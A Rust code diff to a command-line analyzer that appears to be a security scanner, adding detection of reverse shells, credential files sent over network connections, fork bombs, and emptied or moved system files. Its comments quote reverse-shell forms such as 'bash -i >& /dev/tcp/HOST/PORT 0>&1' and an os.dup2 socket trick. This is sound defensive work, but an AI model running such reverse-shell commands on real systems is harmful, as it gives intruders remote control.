@@ -440,6 +440,9 @@ struct Analyzer<'p> {
     /// The line may change a repository file before an entry point runs (an in-place
     /// edit, `npm pkg set`, `git checkout`): entry points are judged by their names.
     line_edits: bool,
+    /// The line opened a network connection (`exec 5<>/dev/tcp/…`): a shell reading
+    /// commands from its input later on may be reading them from it.
+    connected: bool,
     /// Pieces of code analysed so far ([`MAX_WORK`]).
     work: usize,
 }
@@ -456,6 +459,7 @@ impl<'p> Analyzer<'p> {
             wanted: Vec::new(),
             written: Default::default(),
             line_edits: false,
+            connected: false,
             work: 0,
         }
     }
@@ -487,6 +491,9 @@ impl<'p> Analyzer<'p> {
         for p in w.problems {
             self.findings
                 .push(finding(unverifiable("unparseable", p.reason), &p.matched));
+        }
+        for matched in &w.fork_bombs {
+            self.add([rules::fork_bomb_hit()], matched);
         }
         for e in &w.execs {
             self.note_written(e);
@@ -630,8 +637,55 @@ impl<'p> Analyzer<'p> {
             self.cwd = e.cwd.clone();
         }
         self.writes(&e.writes, &e.text);
+        self.reverse_shell(e);
         self.argv(&e.argv, &e.stdin, &e.text, depth);
         self.cwd = outer;
+    }
+
+    /// A shell or an interpreter whose input or output is a network connection
+    /// (`bash -i >& /dev/tcp/HOST/PORT 0>&1`): a reverse shell. Any other program's
+    /// redirection to one only sends or receives data.
+    fn reverse_shell(&mut self, e: &Exec) {
+        let stdin = match &e.stdin {
+            Stdin::File(f) => Some(f),
+            _ => None,
+        };
+        let connected = e
+            .writes
+            .iter()
+            .chain(stdin)
+            .filter_map(Arg::lit)
+            .find(|p| rules::network_device(p));
+        let shell = e
+            .argv
+            .iter()
+            .filter_map(Arg::lit)
+            .map(program)
+            .any(|p| SHELLS.contains(&p) || inline::interpreter(p).is_some());
+        // A shell given no script (`sh`, `bash -i`) reads its commands from its input.
+        let reads_commands = e
+            .argv
+            .first()
+            .and_then(Arg::lit)
+            .is_some_and(|w| SHELLS.contains(&program(w)))
+            && e.argv[1..].iter().all(|a| a.raw().starts_with('-') && a.raw() != "-c");
+        // Data sent is not a finding, but a credential file sent is.
+        if connected.is_some()
+            && let Some(secret) = e.argv[1..]
+                .iter()
+                .filter_map(Arg::lit)
+                .find(|a| rules::credential_path(a))
+        {
+            self.add([rules::credential_sent_hit(secret)], &e.text);
+        }
+        self.connected |= connected.is_some();
+        if (shell && connected.is_some()) || (reads_commands && self.connected) {
+            let device = connected.unwrap_or("a connection the line opened");
+            self.add(
+                [rules::reverse_shell_hit(&format!("a shell connected to {device}"))],
+                &e.text,
+            );
+        }
     }
 
     /// `paths` as the command reaches them, from the directory it runs in.
@@ -1099,6 +1153,25 @@ impl<'p> Analyzer<'p> {
         self.add(rules::coord_state_write(prog, args), text);
         let written = rules::written_files(prog, args);
         self.writes(&written, text);
+        // What a file loses: `truncate` empties its files, `mv` takes its sources away
+        // (judged as deleting them where they are the machine's or the home's).
+        let lost = rules::emptied_or_moved(prog, args);
+        if !lost.is_empty() {
+            let reached: Vec<Arg> = self
+                .reach(&lost)
+                .into_iter()
+                // A moved file still exists: only the machine's files and a home's
+                // configuration are missed where they were.
+                .filter(|a| {
+                    prog == "truncate"
+                        || a.lit()
+                            .is_some_and(|p| rules::system_path(p) || p.starts_with("~/.") || p.starts_with("/root/"))
+                })
+                .collect();
+            self.add(rules::rm(&reached), text);
+        }
+        self.add(rules::kill(prog, args), text);
+        self.add(rules::permissions(prog, &self.reach(args)), text);
         self.add(self.patterns.check(prog, args), text);
         self.add(sed::sed(prog, args), text);
         for sql in rules::sql_of(prog, args) {
@@ -1342,6 +1415,20 @@ impl Analyzer<'_> {
         }
         for argv in &fx.argvs {
             self.argv(argv, &Stdin::Inherited, text, depth + 1);
+        }
+        // `os.dup2(s.fileno(), 0)` then a shell: the shell talks to the socket.
+        let shell = |argv: &Vec<Arg>| {
+            argv.first()
+                .and_then(Arg::lit)
+                .is_some_and(|w| SHELLS.contains(&program(w)))
+        };
+        if fx.redirects_descriptors && (fx.argvs.iter().any(shell) || !fx.shell.is_empty()) {
+            self.add(
+                [rules::reverse_shell_hit(&format!(
+                    "{prog} code that points its descriptors elsewhere and starts a shell"
+                ))],
+                text,
+            );
         }
         for argv in &fx.deletions {
             self.add(rules::rm(argv), text);
